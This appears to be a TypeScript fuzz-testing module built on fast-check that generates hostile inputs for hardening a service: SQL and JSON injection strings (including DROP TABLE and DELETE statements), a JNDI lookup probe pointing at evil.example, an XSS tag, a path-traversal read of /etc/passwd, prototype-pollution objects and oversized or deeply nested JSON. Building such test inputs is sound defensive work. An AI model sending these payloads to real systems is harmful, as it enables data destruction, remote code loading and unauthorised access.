import fc from 'fast-check';

/**
 * Hostile values: strings that have broken other services (injection, encodings, sizes), JSON that is
 * legal but awkward (non-finite numbers, deep nesting, prototype keys), and a JSON serializer that can
 * emit them verbatim.
 */

/** Emitted as is by `toJson` (JSON.stringify cannot write 1e400 or 100,000 levels of nesting). */
export class RawJson {
  constructor(readonly text: string) {}
}

/** Sets an own enumerable property, even `__proto__` (plain assignment would set the prototype). */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true });
}

export function toJson(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    return `{${Object.keys(value)
      .map((key) => `${JSON.stringify(key)}:${toJson((value as Record<string, unknown>)[key])}`)
      .join(',')}}`;
  }
  return value === undefined ? 'null' : JSON.stringify(value);
}

export const SQL_INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE jobs; --",
  '1; SELECT pg_sleep(10); --',
  "x' UNION SELECT tenant_id, id FROM jobs --",
  '$$; DELETE FROM sources; $$',
  "\\'; COMMIT; RESET ROLE; --",
];

export const JSON_INJECTION = ['","tenantId":"other","x":"', '"}]}', '{"$ne":null}', '\\"', '\\u0000'];

export const UNICODE = [
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
  '\u202eevil.exe\u202c',
  'zero\u200bwidth\u200d\u2060',
  '\ufeffbom',
  'e\u0301\u0301\u0301\u0301',
  '🧨💥🇺🇳',
  '\u0007\u001b[31mred\u001b[0m',
  'line\u2028sep\u2029',
  '\uffff\ufffe',
  'ｆｕｌｌｗｉｄｔｈ',
  'עברית',
  'İı',
];

export const OTHER_STRINGS = [
  '%s%n%x%p',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, sent literally
  '{{7*7}}${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI-lookup probe, sent literally
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  ' ',
  '',
  'null',
  'true',
  '-1',
  'NaN',
];

export const HOSTILE_STRINGS = [...SQL_INJECTION, ...JSON_INJECTION, ...UNICODE, ...OTHER_STRINGS];

export const PROTOTYPE_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
];

/** Strings up to 1 MB, in one-byte and multi-byte characters. */
export const hugeString = fc
  .tuple(fc.integer({ min: 1_000, max: 1_000_000 }), fc.constantFrom('x', 'é', '\u200b', '𝕏'))
  .map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeString },
);

/** JSON values that are legal but hard on parsers, hashers and databases. */
export const hostileJsonValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    new RawJson('1e400'),
    new RawJson('-1e400'),
    new RawJson('1e-400'),
    new RawJson('-0'),
    new RawJson('9007199254740993'),
    new RawJson('123456789012345678901234567890'),
  ),
  fc
    .integer({ min: 1_000, max: 200_000 })
    .map((depth) => new RawJson(`${'['.repeat(depth)}${']'.repeat(depth)}`)),
  fc
    .integer({ min: 1_000, max: 50_000 })
    .map((depth) => new RawJson(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`)),
  fc.integer({ min: 1_000, max: 100_000 }).map((n) => new RawJson(`[${Array(n).fill('null').join(',')}]`)),
  hostileString,
  fc.constant(
    (() => {
      const polluted: Record<string, unknown> = {};
      setOwn(polluted, '__proto__', { polluted: true, isAdmin: true });
      return polluted;
    })(),
  ),
  fc.jsonValue({ maxDepth: 3 }),
);

export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...PROTOTYPE_KEYS, '', 'a\u0000b', '\ud800', '$where', 'a.b.c', '../x', "k' OR '1'='1"),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

/** What node's HTTP client accepts in a header value: tab, visible ASCII, and bytes 0x80-0xff (latin1). */
export const HEADER_SAFE = /^[\t\x20-\x7e\x80-\xff]*$/;

export const hostileHeaderValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    ...SQL_INJECTION,
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a JNDI-lookup probe, sent literally
    '${jndi:ldap://evil.example/a}',
    'café',
    'ÿþ\u00ad',
    'a\tb',
    '   ',
    '%00',
    '\\u0000',
    '../../',
    '__proto__',
  ),
  fc.string({ unit: 'binary-ascii', maxLength: 60 }).filter((s) => HEADER_SAFE.test(s)),
  fc.integer({ min: 129, max: 8_000 }).map((n) => 'r'.repeat(n)),
);
